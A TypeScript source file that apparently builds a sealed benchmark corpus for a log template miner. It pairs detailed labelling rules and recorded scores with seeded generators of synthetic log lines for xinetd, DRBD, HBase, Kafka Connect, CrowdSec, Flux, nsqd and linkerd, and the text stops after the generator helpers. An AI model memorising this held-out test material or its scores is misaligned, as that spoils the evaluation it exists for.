// Thirteenth sealed evaluation corpus for the template miner: written on 2026-12-07, before any
// miner change of the round after sealed12, by a helper that had read neither the miner
// (src/patterns/) nor any per-system score of the other sets, nor README's template results, and
// ran no `git log` or `git show`. It did see one commit subject: `git worktree add` printed the
// HEAD commit's subject when the worktree was made, which quotes sealed11 0.763 -> 0.767, one
// sealed11 system's figure (certbot 0.77 -> 0.85) and sealed12 0.665; nothing else per system.
// It is meant to be scored like sealed5 to sealed12 (average and minimum only until a round ends,
// per system only at the end of that round). The lines are written from knowledge of the formats,
// not copied, with the variable parts drawn from the seeded RNG. Scored once, after it was written
// and before any miner change of its round (bench:patterns --lines 20000 --orders 5
// --sealed13-summary; src/patterns as at the worktree's HEAD commit a622ced, nothing uncommitted
// under src/): average 0.567, minimum 0.014. Only the set's summary line was read (the run's
// output was filtered to the line naming this set). Nothing here was changed after it but this
// note.
// Formats in none of the other sets (checked against the system names in every
// bench/lib/patterns-*.ts and by grepping bench/lib for each product and for a telltale string of
// each format: `RRQ from`, `drbd_sync_handshake`, `responseTooSlow`, `records sent during`,
// `WorkerSourceTask`, `crowdsec`, `reconcilation`, `nsqd`, `linkerd_`, `verdaccio`, `twistd`,
// `IPv4Address`, `ModSecurity`, `P00`, `pgBackRest`, `WSREP`, `UDP Rcv`, `%%01`, `vaultwarden`;
// DRBD appears elsewhere only as a Pacemaker resource name, ActiveMQ Classic and ISC dhcpd were
// left out because Artemis and DHCP servers are in other sets): xinetd with tftpd-hpa's in.tftpd
// under syslog (a PXE boot server), DRBD 9's kernel messages under syslog, an Apache HBase region
// server (log4j2), a Kafka Connect worker running Debezium PostgreSQL connectors (log4j with the
// connector context, REST access lines), CrowdSec's agent and local API (logrus text, gin access
// lines inside `msg`), Flux's controllers (controller-runtime's zap JSON), nsqd (Go's log with the
// `[nsqd]` prefix), linkerd2-proxy (Rust tracing's compact text with span contexts), Verdaccio
// (its pretty console format, which prints no time), a Buildbot master's twistd.log (Twisted),
// ModSecurity 2.9 with the OWASP CRS 3.3 in Apache 2.4's error log, pgBackRest's log (fixed
// columns), MariaDB with Galera (error log, WSREP lines), the Windows DNS Server debug log (fixed
// columns), Huawei VRP switches' info-center log and Vaultwarden (Rust, fern).
//
// Labelling follows patterns-heldout.ts and sealed5 to sealed12: an event is its constant text (the
// log statement's fixed wording); ids, numbers, hosts, addresses, paths, names, free-text values
// and states reported as a field's value are variables, as is anything in a key=value list or a
// JSON value. Different verbs, outcomes or states written into the message's own wording are
// different events. Each template below is one event. Decisions taken for the ambiguous cases:
// - Request lines keep the heldout rule: the method that starts a request line is part of the
//   event. Kafka Connect's REST access lines (`"GET /connectors/... HTTP/1.1" 200 ...`) are three
//   events (GET, POST, PUT), CrowdSec's gin lines inside `msg` (`\"GET /v1/decisions/stream
//   HTTP/1.1 200 1.2ms ...`) two (GET, POST), Verdaccio's client lines (`<-- 200, user: ..., req:
//   'GET /express', bytes: 0/1234`) four (GET, PUT, POST, DELETE) and Vaultwarden's `[request]`
//   and `[response]` lines four each (`GET /api/sync`, `(sync) GET /api/sync => 200 OK`). Path,
//   status, sizes, latency, user agent, user and route name are variables; a status phrase (`200
//   OK`, `404 Not Found`) is one variable of two or three tokens.
// - Same request, other outcome: Verdaccio's client line with `bytes:` (level http) and its line
//   with `, error: <text>` (level warn) are two statements, so `GET`/`PUT` with an error are two
//   more events; its uplink lines `--> 200, req: '...' (streaming)`, `--> 200, req: '...', bytes:`
//   and `--> ERR, req: '...', error:` are three events; `host ... is now offline` / `is back
//   online` two. Verdaccio prints no time, so identical lines repeat.
// - Message ids and record kinds: Huawei's `MODULE/severity/MNEMONIC(type)` is part of the event
//   (as WebLogic's BEA ids were in sealed12), so `IFNET/2/linkDown_active` and `linkDown_clear`,
//   which share their wording, are two events; the `[seq]` after it, the host and every value in
//   the parenthesised `(Key=value, ...)` list are variables (`Reason=The physical link is down`,
//   `Command="display current-configuration | include vlan"`, `NeighborEvent=AdjOk?`), as are the
//   placeholders in the wording (`UP` / `DOWN`, `IP` / `IPv6`, an interface). The CE switches
//   print `+00:00` after the time, the S switches nothing: part of the time token. ModSecurity's
//   rule id is NOT part of the event: it names the rule that matched, like a signature name; the
//   event is the operator's sentence with its outcome: `Warning. Pattern match "..." at X.`,
//   `Warning. Matched phrase "..." at X.`, `Warning. detected SQLi using libinjection with
//   fingerprint '...'`, `Warning. detected XSS using libinjection.`, `Warning. Operator GE matched
//   5 at TX:...` (949110's anomaly score and 980130's correlation line, `TX:anomaly_score` /
//   `TX:inbound_anomaly_score`, are one event), `Access denied with code 403 (phase 2). Operator
//   GE matched ...` (another outcome, another event), `Operator EQ matched 0 at REQUEST_HEADERS.`,
//   `Found N byte(s) in X outside range: 1-255.`, `Match of "..." against "..." required.`. The
//   bracketed metadata ([file], [line], [id], [msg], [data], [severity], [ver], a list of one to
//   eight [tag]s, [hostname], [uri], [unique_id]) are variables; some rules print no [data] or no
//   [severity], and Apache appends an optional `, referer: <url>`. Apache's `[security2:error]`
//   is part of the event, `[pid N:tid N]` and the doubled `[client ...]` variables; each
//   `<library> compiled version=` startup line is its own event. The Windows DNS debug log is
//   labelled by its record kind: direction (`Snd` / `Rcv`), the response column (`R` or blank)
//   and the opcode (`Q`, `U`, `N`), so a client query, the answer to it, a forwarded query, the
//   forwarder's answer, a dynamic update and its answer, and notify sent / answered / received /
//   answered are ten events; protocol (`UDP` / `TCP`), thread, packet id, remote address (padded
//   to 15 columns), xid, the byte-swapped hex flags, the flag letters (`A`, `D`, `R`, blanks where
//   unset, so the spacing varies), response code, question type and the `(3)www(6)google(3)com(0)`
//   name are variables. The two file-header lines are events of their own.
// - Program tags, loggers, targets and prefixes: the syslog program (xinetd, in.tftpd, kernel) is
//   part of the event, host and pid variables. xinetd's `START:` / `EXIT:` / `FAIL:` are three
//   events (service, pid, address with or without `::ffff:`, status, duration and FAIL's reason
//   `address` / `per_source_limit` are values); in.tftpd's `RRQ from ... filename X` and `RRQ
//   from ... filename X remapped to Y` are two statements, `WRQ` a third; `sending NAK (1, File
//   not found) to` is one event (code and text one variable). DRBD's object prefix (`drbd r0:`,
//   `drbd r0 stor-b:`, `drbd r0/0 drbd0:`, `drbd r0/0 drbd0 stor-b:`) is variables (resource,
//   volume, minor, peer); its state-change lines are labelled by the set of state fields printed
//   (`conn( A -> B )`, `conn( .. ) peer( .. )`, `disk( .. )`, `pdsk( .. ) repl( .. )`, `repl( ..
//   )`, `role( .. )`: six events), the states variables; `self` and `peer` UUID lines are two
//   statements, `Preparing` / `Committing` `cluster-wide` and `remote` state change four,
//   `uuid_compare()=<result> by rule <n>` and `Began resync as <SyncSource|SyncTarget>` one each.
//   HBase's, Kafka Connect's, nsqd's, pgBackRest's, MariaDB's, Buildbot's and Vaultwarden's level
//   is part of the event, as are HBase's abbreviated logger (`regionserver.HRegion`), Kafka
//   Connect's `(class:line)` suffix and linkerd's tracing target (`linkerd_reconnect`); the thread
//   (`RpcServer.default.FPBQ.Fifo.handler=12,queue=0,port=16020`, `AsyncFSWAL-0-hdfs://...`),
//   Kafka Connect's connector context (`[shop-postgres|task-0] `, printed or not per statement),
//   linkerd's uptime, `ThreadId(01)` and span context (`outbound:proxy{addr=...}:service{ns=shop
//   name=api port=80}:endpoint{addr=...}`, `inbound:server{port=8080}`, `watch{port=8080}`, or
//   none: one variable of zero to three tokens), Buildbot's Twisted context (`-`, `Broker,12,ip`),
//   pgBackRest's process (`P00` to `P04`), MariaDB's thread id (0 or the connection id) are
//   variables. Words of a statement's own prefix (`[Worker clientId=..., groupId=...]`,
//   `[Producer clientId=...]`, `WorkerSourceTask{id=...}`, `WSREP:`, `PROTOCOL(V2):`) are
//   constants around their values.
// - Verbs and outcomes in the wording are events: xinetd's `Starting reconfiguration` / `Swapping
//   defaults` / `readjusting service` / `Reconfigured:` / `removing`; DRBD's `Terminating sender
//   thread` / `Connection closed`, `Resync done` / `Began resync`; HBase's `Flushing` / `Flushed
//   memstore` / `Added` / `Finished flush`, `Starting compaction` / `Completed compaction`,
//   `Rolled WAL` / `Archiving`, the handler's `Open` / `Close` and HRegion's `Opened` / `Closed`;
//   Kafka Connect's `Rebalance started` / `Joined group`, `Starting task` / `Starting connector`
//   / `Finished starting`; Debezium's `Searching for WAL resume position` / `WAL resume position
//   ... discovered` / `Processing messages`, `Exporting data from table` / `Finished exporting`,
//   and each `Snapshot step N - <description>` (steps 1 and 7 here: each description a constant
//   of its own step); CrowdSec's `Ip ... performed '<scenario>' (N events over D) at T` and the
//   decision line `(<machine>/crowdsec) <scenario> by ip X (CC/ASN) : 4h ban on Ip X`; nsqd's
//   `TOPIC(x): created` / `new channel(y)` / `deleting channel y`, `topic REGISTER x` / `channel
//   REGISTER x y` / `channel UNREGISTER x y`, `E_FIN_FAILED` / `E_REQ_FAILED`, `exiting ioloop` /
//   `exiting messagePump`; linkerd's `Unavailable; entering failfast` / `Available; exited
//   failfast`, `HTTP/1.1 request failed` (the version a value: `HTTP/2.0` too) / `gRPC request
//   failed`; Buildbot's `starting build` / `acquireLocks(...)` / ` <Build ...>: build finished`
//   (with the leading space Buildbot prints) / `releaseLocks(...)`, `Starting factory` /
//   `Stopping factory`; pgBackRest's `pushed WAL file ... to the archive` / `... asynchronously`,
//   `backup file` / `match file from prior backup` / `skip file removed by database` /
//   `reference`, `found ... in the repo1: 16-1 archive` / `unable to find ... in the archive`,
//   `backup start archive` / `backup stop archive`; MariaDB's `State transfer to` / `State
//   transfer from`, `reconnecting to` / `connection established to`; Vaultwarden's `Username or
//   password is incorrect` / `logged in successfully`.
// - One statement, values in its wording: pgBackRest's `<command> command begin 2.54.0: <options>`
//   is one event for archive-push, archive-get, backup and expire (one statement; the command and
//   the option list, of varying length and with `<redacted>` values, are variables), likewise
//   `<command> command end: completed successfully (Nms)` and `<incr|diff|full> backup size =`;
//   MariaDB's `Shifting SYNCED -> DONOR/DESYNCED (TO: n)` and `Server status change joined ->
//   synced` are one event each with the states as values; HBase's `Completed [major ]compaction of
//   N[ (all)] file(s)` is one statement that prints its flags as words, so one event with optional
//   tokens; Twisted's `PBServerFactory starting on 9989` / `Site starting on 8010` is one event
//   (factory and port values); Buildbot's `Updated status with "success" for ...` one event (the
//   state a value).
// - Key lists and JSON: Flux lines are labelled by `msg` alone: the controller-runtime fields
//   (`controller`, `controllerGroup`, `controllerKind`, the object under a key named after its
//   kind, `namespace`, `name`, `reconcileID`) name what is reconciled and are values even where
//   the key itself changes with the kind (`garbage collected N artifacts` from the GitRepository
//   and the HelmChart reconciler, `artifact up-to-date with remote revision: '...'` from the
//   HelmRepository and the HelmChart one, `Reconciler error` and the `Starting ...` lines from
//   every controller are one event each); `output` (an object with one to five keys), `revision`,
//   `error` and `worker count` are values, as are values inside `msg` (a commit subject, a chart
//   name and version, a duration, an image and tag). CrowdSec lines are labelled by `msg` with
//   their key set (`type=file` after `Adding file ... to datasources`). HBase's
//   `(responseTooSlow): {...}` JSON is one variable; its LruBlockCache stats line is a key=value
//   list (with its empty `, ,` field) whose values are variables. nsqd's `IDENTIFY: {ClientID:...
//   MsgTimeout:0}` prints a Go struct with `%+v`: the field names are constants, the values
//   variables. Debezium's offset map (`{transaction_id=null, lsn_proc=..., ...}`) and
//   `SnapshotResult [...]` are variables, as is Kafka Connect's `Assignment{...}` content and
//   connector list (empty or not).
// - States and kinds printed as values stay variables: DRBD's states, uuid_compare's result and
//   the resync role; MariaDB's `*any*` or donor name, abort reason (`Got an error reading
//   communication packets`) and `using password: YES` / `NO`; CrowdSec's ban duration, `(CC/ASN)`
//   or `(/0)`; linkerd's `error=` text (free text of many tokens, with colons) and the optional
//   `server.addr=` that newer proxies add to `Connection closed`; Huawei's and ModSecurity's as
//   above; Verdaccio's user `null(172.18.0.1)` or `alice(10.0.3.4)`; pgBackRest's sizes (`8KB`,
//   `1GB`), percentages and repo key `16-1`; Windows DNS's response codes.

import type { HeldoutSystem } from './patterns-heldout.ts';
import { t, d2, pad, hms, bsd, ymd, ms3, usec, skew, syslog, port, some, pick, lan, epoch, epochMs, hexUp, b64url, mac } from './patterns-gen.ts';
import { Rng } from './patterns-rng.ts';

const FIXED = new Rng(20261313);
const MONS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** A day in the corpus's window (as ymd draws it), with its weekday. */
const day = (r: Rng) => { const m = r.next() < 0.8 ? 12 : 11; const d = r.int(1, 28); return { m, d, mon: MONS[m - 1], wd: ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'][new Date(Date.UTC(2026, m - 1, d)).getUTCDay()] }; };
/** Drops a decimal fraction's trailing zeros (and a bare point). */
const trimz = (s: string) => (s.includes('.') ? s.replace(/0+$/, '').replace(/\.$/, '') : s);
/** A Go time.Duration as String() prints it. */
const godur = (r: Rng) => { const x = r.next(); if (x < 0.3) return `${trimz(r.float(0.1, 999, 3))}ms`; if (x < 0.85) return `${trimz(r.float(1, 59, r.pick([3, 6, 9])))}s`; return `${r.int(1, 9)}m${trimz(r.float(0, 59, 3))}s`; };

// xinetd with in.tftpd (syslog): a PXE boot server
const XH = ['pxe-01', 'pxe-02'];
const xi = (r: Rng) => syslog(r, XH, 'xinetd', 1123);
const tf = (r: Rng) => `${bsd(r)} ${skew(r, XH)} in.tftpd[${r.int(2000, 65000)}]: `;
const pxeip = (r: Rng) => `10.0.5.${r.int(20, 250)}`;
const v6m = (r: Rng, ip: string) => (r.next() < 0.3 ? `::ffff:${ip}` : ip);
const xsvc = (r: Rng): [string, string] => {
  const x = r.next();
  if (x < 0.6) return ['tftp', pxeip(r)];
  if (x < 0.85) return ['check_mk', skew(r, ['10.0.9.5', '10.0.9.6'])];
  if (x < 0.95) return ['nrpe', '10.0.9.5'];
  return ['rsync', lan(r, '10.0')];
};
const iphex = (ip: string) => ip.split('.').map((n) => Number(n).toString(16).toUpperCase().padStart(2, '0')).join('');
const TFGET = [
  () => 'pxelinux.0', () => 'pxelinux.0', () => 'lpxelinux.0', () => 'ldlinux.c32', () => 'grubx64.efi', () => 'shimx64.efi', () => 'undionly.kpxe',
  () => 'pxelinux.cfg/default', () => 'menu.c32', () => 'ubuntu-24.04/vmlinuz', () => 'ubuntu-24.04/initrd', () => 'rocky-9/images/pxeboot/initrd.img',
  (r: Rng) => `pxelinux.cfg/01-${mac(r).replace(/:/g, '-')}`, (r: Rng) => `grub/grub.cfg-01-${mac(r).replace(/:/g, '-')}`,
];
const XOFF = ['chargen', 'daytime', 'discard', 'echo', 'time'];

// DRBD 9 (kernel, through syslog): resources with volume 0, peers by node name
const DRH = ['stor-a', 'stor-b', 'stor-c'];
const DRRES: [string, number][] = [['r0', 0], ['r0', 0], ['pgdata', 10], ['vmstore', 11], ...Array.from({ length: 4 }, (_, i): [string, number] => [`pvc-${FIXED.uuid()}`, 1000 + i])];
const drk = (r: Rng) => {
  const h = skew(r, DRH, 0.6);
  const [res, minor] = skew(r, DRRES, 0.35);
  return { pre: `${bsd(r)} ${h} kernel: [${String(r.int(20, 9000000)).padStart(5)}.${usec(r)}] drbd `, res, minor, peer: r.pick(DRH.filter((x) => x !== h)) };
};
const drR = (r: Rng) => { const k = drk(r); return `${k.pre}${k.res}: `; };
const drC = (r: Rng) => { const k = drk(r); return `${k.pre}${k.res} ${k.peer}: `; };
const drD = (r: Rng) => { const k = drk(r); return `${k.pre}${k.res}/0 drbd${k.minor}: `; };
const drP = (r: Rng) => { const k = drk(r); return `${k.pre}${k.res}/0 drbd${k.minor} ${k.peer}: `; };
const tr = (r: Rng, xs: readonly (readonly [string, string])[]) => { const [a, b] = r.pick(xs); return `( ${a} -> ${b} )`; };
const DRCONN = [['StandAlone', 'Unconnected'], ['Unconnected', 'Connecting'], ['Unconnected', 'Connecting'], ['NetworkFailure', 'Unconnected'], ['BrokenPipe', 'Unconnected'], ['Disconnecting', 'StandAlone'], ['Connecting', 'Disconnecting']] as const;
const DRCP = [[['Connecting', 'Connected'], ['Unknown', 'Secondary']], [['Connecting', 'Connected'], ['Unknown', 'Primary']], [['Connected', 'NetworkFailure'], ['Secondary', 'Unknown']], [['Connected', 'Disconnecting'], ['Primary', 'Unknown']], [['Connected', 'Timeout'], ['Secondary', 'Unknown']]] as const;
const DRDISK = [['Attaching', 'Negotiating'], ['Negotiating', 'UpToDate'], ['Inconsistent', 'UpToDate'], ['Outdated', 'Inconsistent'], ['UpToDate', 'Detaching'], ['Detaching', 'Diskless'], ['Diskless', 'Attaching'], ['Consistent', 'UpToDate'], ['UpToDate', 'Outdated']] as const;
const DRPR = [[['DUnknown', 'UpToDate'], ['Off', 'Established']], [['UpToDate', 'DUnknown'], ['Established', 'Off']], [['DUnknown', 'Outdated'], ['Off', 'Established']], [['Inconsistent', 'UpToDate'], ['SyncSource', 'Established']], [['Outdated', 'Inconsistent'], ['WFBitMapS', 'SyncSource']]] as const;
const DRREPL = [['Established', 'WFBitMapS'], ['WFBitMapS', 'SyncSource'], ['SyncSource', 'Established'], ['Established', 'WFBitMapT'], ['WFBitMapT', 'WFSyncUUID'], ['WFSyncUUID', 'SyncTarget'], ['SyncTarget', 'Established'], ['Established', 'PausedSyncS']] as const;
const druuid = (r: Rng) => (r.next() < 0.1 ? '0000000000000000' : hexUp(r, 16));
const drid = (r: Rng) => r.int(100000000, 4294967295);

// Apache HBase region server (log4j2: `%d{ISO8601} %-5p [%t] %c{2}: %m`)
const HBRS = ['hbase-rs-1', 'hbase-rs-2', 'hbase-rs-3', 'hbase-rs-4'];
const HBSTART = HBRS.map(() => 1796000000000 + FIXED.int(0, 500000000));
const HBTABLES: [string, string][] = [['orders', 'default'], ['orders', 'default'], ['customers', 'default'], ['events', 'default'], ['sessions', 'shop'], ['clicks', 'analytics']];
const HBREG = Array.from({ length: 40 }, () => {
  const [tb, ns] = FIXED.pick(HBTABLES);
  const enc = FIXED.hex(32);
  const start = FIXED.next() < 0.1 ? '' : FIXED.pick([`row-${pad(FIXED.int(0, 9999), 4)}`, FIXED.hex(8), `${FIXED.int(1, 9)}|${FIXED.int(100000, 999999)}`]);
  const name = `${ns === 'default' ? '' : ns + ':'}${tb},${start},${1790000000000 + FIXED.int(0, 9000000000)}.${enc}.`;
  return { tb, ns, enc, name };
});
const hbreg = (r: Rng) => skew(r, HBREG, 0.15);
const HBNN = 'hdfs://nn1.example.com:8020/hbase';
const hbcf = (r: Rng) => skew(r, ['d', 'f', 'meta'], 0.7);
const hbdir = (g: { tb: string; ns: string; enc: string }) => `${HBNN}/data/${g.ns}/${g.tb}/${g.enc}`;
const hbts = (r: Rng) => `${ymd(r)} ${hms(r)},${ms3(r)}`;
const hbl = (r: Rng, lvl: string, thread: string, logger: string) => `${hbts(r)} ${lvl.padEnd(5)} [${thread}] ${logger}: `;
const hbrs = (r: Rng) => { const i = r.int(0, HBRS.length - 1); return { rs: HBRS[i], start: HBSTART[i] }; };
const hbmb = (r: Rng, lo = 0.5, hi = 128) => { const v = lo + r.next() * (hi - lo); return { s: v >= 1024 ? `${(v / 1024).toFixed(2)} GB` : v < 1 ? `${(v * 1024).toFixed(2)} KB` : `${v.toFixed(2)} MB`, b: Math.round(v * 1048576) }; };
const hbseq = (r: Rng) => r.int(1000000, 990000000);
const hbwal = (r: Rng, h: { rs: string; start: number }, old = false) => { const { rs, start } = h; const srv = `${rs}.example.com,16020,${start}`; return `${HBNN}/${old ? 'oldWALs' : `WALs/${srv}`}/${srv.replace(/,/g, '%2C')}.${start + r.int(1000000, 900000000)}`; };
const hbdn = (r: Rng) => { const ips = [11, 12, 13, 14, 15, 16].sort(() => r.next() - 0.5).slice(0, 3); return `[${ips.map((i) => `DatanodeInfoWithStorage[10.0.6.${i}:9866,DS-${r.uuid()},DISK]`).join(', ')}]`; };
const hbflusher = (r: Rng) => `MemStoreFlusher.${r.int(0, 1)}`;
const hbcompact = (r: Rng) => `regionserver/${r.pick(HBRS)}:16020-${r.next() < 0.8 ? 'shortCompactions' : 'longCompactions'}-${r.int(0, 2)}`;
const hbrpc = (r: Rng) => `RpcServer.default.FPBQ.Fifo.handler=${r.int(0, 29)},queue=${r.int(0, 2)},port=16020`;

// Kafka Connect worker running Debezium PostgreSQL connectors (log4j: `[%d] %p %X{connector.context}%m (%c:%L)`)
const KCONN: [string, string, string[]][] = [
  ['shop-postgres', 'shop', ['public.orders', 'public.order_items', 'public.customers', 'public.payments', 'public.shipments', 'public.coupons']],
  ['shop-postgres', 'shop', ['public.orders', 'public.order_items', 'public.customers', 'public.payments', 'public.shipments', 'public.coupons']],
  ['billing-postgres', 'billing', ['billing.invoices', 'billing.invoice_lines', 'billing.accounts']],
  ['inventory-postgres', 'inventory', ['public.stock_levels', 'public.warehouses', 'public.reservations']],
];
const kcn = (r: Rng) => skew(r, KCONN, 0.4);
const kct = (r: Rng, lvl: string, ctx: string, cls: string, line: number, msg: string, at = `${ymd(r)} ${hms(r)}`) => `[${at},${ms3(r)}] ${lvl} ${ctx}${msg} (${cls}:${line})`;
const KWORKERS = ['10.0.8.11', '10.0.8.12', '10.0.8.13'];
const kw = (r: Rng) => `[Worker clientId=connect-${r.pick(KWORKERS)}:8083, groupId=connect-cluster] `;
const klsn = (r: Rng) => `${r.int(0x10, 0x2f).toString(16).toUpperCase()}/${hexUp(r, 8).replace(/^0+/, '')}`;
const kdur = (r: Rng) => `00:${d2(r.int(0, 4))}:${d2(r.int(0, 59))}.${ms3(r)}`;
const KREST = ['10.0.8.1', '10.0.8.1', '10.0.9.20', '127.0.0.1'];
const KUA = ['curl/8.5.0', 'Go-http-client/1.1', 'kafka-connect-ui', 'python-requests/2.32.3', 'Prometheus/2.53.1'];
/** A REST request's time as the line's log4j date and as the access-log date inside it. */
const kwhen = (r: Rng) => { const { m, d, mon } = day(r); const tm = hms(r); return { at: `2026-${d2(m)}-${d2(d)} ${tm}`, clf: `[${d2(d)}/${mon}/2026:${tm} +0000]` }; };

// CrowdSec agent and local API (logrus text)
/** One instant, as logrus's `time=` and as gin's RFC 1123 date inside the message print it. */
const csnow = (r: Rng) => { const { m, d, mon, wd } = day(r); const tm = hms(r); return { iso: `2026-${d2(m)}-${d2(d)}T${tm}Z`, rfc: `${wd}, ${d2(d)} ${mon} 2026 ${tm} UTC`, plain: `2026-${d2(m)}-${d2(d)} ${tm}` }; };
const cst = (r: Rng, lvl: string, msg: string, tail = '', at = csnow(r).iso) => `time="${at}" level=${lvl} msg=${JSON.stringify(msg)}${tail}`;
const CSSCEN = ['crowdsecurity/ssh-bf', 'crowdsecurity/ssh-bf', 'crowdsecurity/ssh-slow-bf', 'crowdsecurity/http-probing', 'crowdsecurity/http-crawl-non_statics', 'crowdsecurity/http-bad-user-agent', 'crowdsecurity/http-sensitive-files', 'crowdsecurity/CVE-2023-22515', 'crowdsecurity/http-admin-interface-probing', 'crowdsecurity/nginx-req-limit-exceeded', 'LePresidente/http-generic-401-bf'];
const CSGEO = ['CN/4134', 'US/14061', 'DE/24940', 'RU/49505', 'NL/202425', 'US/16509', 'VN/45899', 'BR/28573', 'IN/9829', '/0', 'SG/14061', 'FR/16276'];
const CSMACH = ['localhost', 'localhost', `${FIXED.hex(32)}${FIXED.alnum(16)}`, 'web-01', 'mail-01'];
const CSUA = [
  () => 'crowdsec-firewall-bouncer/v0.0.31-debian-pragmatic-amd64-a8b4b4ef-linux', () => 'crowdsec-firewall-bouncer/v0.0.31-debian-pragmatic-amd64-a8b4b4ef-linux',
  () => 'crowdsec-nginx-bouncer/v1.0.8', () => 'crowdsec/v1.6.4-debian-pragmatic-amd64-523164f6-linux', () => 'Go-http-client/1.1', () => 'traefik-bouncer/1.3.5',
];
const cslat = (r: Rng) => (r.next() < 0.7 ? `${trimz(r.float(30, 999, 3))}µs` : `${trimz(r.float(1, 90, 6))}ms`);
const CSBAN = ['4h', '4h', '4h', '24h', '168h', '1h'];
const CSFILES = ['/var/log/auth.log', '/var/log/nginx/access.log', '/var/log/nginx/error.log', '/var/log/syslog', '/var/log/mail.log', '/var/log/nextcloud/nextcloud.log'];

// Flux controllers (controller-runtime with zap JSON)
const FXC: Record<string, [string, string, string]> = {
  git: ['gitrepository', 'source.toolkit.fluxcd.io', 'GitRepository'],
  helmrepo: ['helmrepository', 'source.toolkit.fluxcd.io', 'HelmRepository'],
  helmchart: ['helmchart', 'source.toolkit.fluxcd.io', 'HelmChart'],
  ks: ['kustomization', 'kustomize.toolkit.fluxcd.io', 'Kustomization'],
  hr: ['helmrelease', 'helm.toolkit.fluxcd.io', 'HelmRelease'],
  ip: ['imagepolicy', 'image.toolkit.fluxcd.io', 'ImagePolicy'],
  iua: ['imageupdateautomation', 'image.toolkit.fluxcd.io', 'ImageUpdateAutomation'],
};
const FXOBJ: Record<string, [string, string][]> = {
  git: [['flux-system', 'flux-system'], ['flux-system', 'flux-system'], ['shop-apps', 'flux-system'], ['platform-infra', 'flux-system']],
  helmrepo: [['bitnami', 'flux-system'], ['ingress-nginx', 'flux-system'], ['jetstack', 'flux-system'], ['prometheus-community', 'flux-system'], ['grafana', 'flux-system']],
  helmchart: [['monitoring-kube-prometheus-stack', 'flux-system'], ['ingress-nginx-ingress-nginx', 'flux-system'], ['cert-manager-cert-manager', 'flux-system'], ['shop-redis', 'flux-system']],
  ks: [['flux-system', 'flux-system'], ['infra-controllers', 'flux-system'], ['infra-configs', 'flux-system'], ['apps', 'flux-system'], ['shop-api', 'shop'], ['shop-web', 'shop']],
  hr: [['kube-prometheus-stack', 'monitoring'], ['ingress-nginx', 'ingress-nginx'], ['cert-manager', 'cert-manager'], ['redis', 'shop'], ['loki', 'monitoring']],
  ip: [['shop-api', 'flux-system'], ['shop-web', 'flux-system'], ['shop-worker', 'flux-system']],
  iua: [['flux-system', 'flux-system']],
};
const fxts = (r: Rng) => `${ymd(r)}T${hms(r)}.${ms3(r)}Z`;
const fx = (r: Rng, lvl: string, kind: string, msg: string, extra: Record<string, unknown> = {}, obj?: [string, string]) => {
  const [controller, controllerGroup, controllerKind] = FXC[kind];
  const [name, namespace] = obj ?? skew(r, FXOBJ[kind], 0.5);
  return JSON.stringify({ level: lvl, ts: fxts(r), msg, controller, controllerGroup, controllerKind, [controllerKind]: { name, namespace }, namespace, name, reconcileID: r.uuid(), ...extra });
};
const fxrev = (r: Rng) => `${r.next() < 0.85 ? 'main' : 'release/2026-12'}@sha1:${r.hex(40)}`;
const FXCOMMITS = [
  (r: Rng) => `Merge pull request #${r.int(100, 2000)} from shop/renovate/${r.pick(['redis-20.x', 'ingress-nginx-4.x', 'kube-prometheus-stack-66.x', 'cert-manager-1.16.x'])}`,
  (r: Rng) => `chore(shop-api): bump image to ${r.int(1, 2)}.${r.int(0, 60)}.${r.int(0, 9)}`, () => 'Update image policy',
  () => 'Scale checkout workers to 6 for the December sale', (r: Rng) => `Revert "${r.pick(['Enable HPA for shop-web', 'Raise loki retention to 30d'])}"`,
];
const fxint = (r: Rng) => r.pick(['10m0s', '10m0s', '5m0s', '1h0m0s', '30m0s']);
const fxsecs = (r: Rng) => (r.next() < 0.7 ? `${trimz(r.float(0.1, 9, r.pick([3, 6, 9])))}s` : `${r.int(1, 5)}m${trimz(r.float(0, 59, 3))}s`);
const FXERR = [
  (r: Rng) => `Deployment/shop/${r.pick(['api', 'web', 'worker'])} dry-run failed (Invalid): Deployment.apps "${r.pick(['api', 'web', 'worker'])}" is invalid: spec.template.spec.containers[0].image: Required value`,
  (r: Rng) => `health check failed after ${fxsecs(r)}: timeout waiting for: [Deployment/shop/${r.pick(['api', 'web'])} status: 'InProgress']`,
  () => `kustomize build failed: accumulating resources: accumulation err='accumulating resources from './overlays/prod': evalsymlink failure on '/tmp/kustomization-1234/apps/overlays/prod' : lstat /tmp/kustomization-1234/apps/overlays/prod: no such file or directory': must build at directory: not a valid directory`,
  () => 'failed to get last release revision: query: failed to query with labels: Unauthorized',
];

// nsqd (Go log with the `[nsqd]` prefix)
const nq = (r: Rng, lvl: string) => `[nsqd] ${ymd(r, '/')} ${hms(r)}.${usec(r)} ${lvl}: `;
const nqc = (r: Rng) => `10.0.4.${r.int(10, 90)}:${port(r)}`;
const NQTOPICS = ['orders', 'orders', 'payments', 'emails', 'audit_log', 'thumbnails', 'search_index'];
const NQCH: Record<string, string[]> = { orders: ['fulfilment', 'ledger', 'analytics'], payments: ['ledger', 'fraud_check'], emails: ['sender'], audit_log: ['archiver'], thumbnails: ['resizer'], search_index: ['indexer'] };
const nqtc = (r: Rng) => { const tp = r.pick(NQTOPICS); return [tp, r.next() < 0.1 ? `nsq_tail${r.int(100000, 999999)}#ephemeral` : r.pick(NQCH[tp])] as const; };
const NQLOOKUP = ['nsqlookupd-0.nsqlookupd:4160', 'nsqlookupd-1.nsqlookupd:4160', 'nsqlookupd-2.nsqlookupd:4160'];
const NQUA = ['go-nsq/1.1.0', 'go-nsq/1.1.0', 'pynsq/0.9.1', 'nsqjs/0.13.0', 'nsq_tail/1.3.0'];
const nqid = (r: Rng) => r.pick([`orders-worker-${r.hex(10)}-${r.alnum(5)}`, `mailer-${r.int(1, 4)}`, `ledger-${r.hex(10)}-${r.alnum(5)}`, 'thumbnailer', `nsq_tail-${r.int(1000, 9999)}`]);

// linkerd2-proxy (Rust, tracing's compact text: uptime, level, thread, span context, target)
const lk = (r: Rng, lvl: string, ctx: string, target: string, thread = 1, early = false) => `[${(early ? r.next() * 0.02 : r.next() < 0.05 ? r.next() * 5 : r.next() * 900000).toFixed(6).padStart(12)}s] ${lvl.padStart(5)} ThreadId(${d2(thread)}) ${ctx ? `${ctx}: ` : ''}${target}: `;
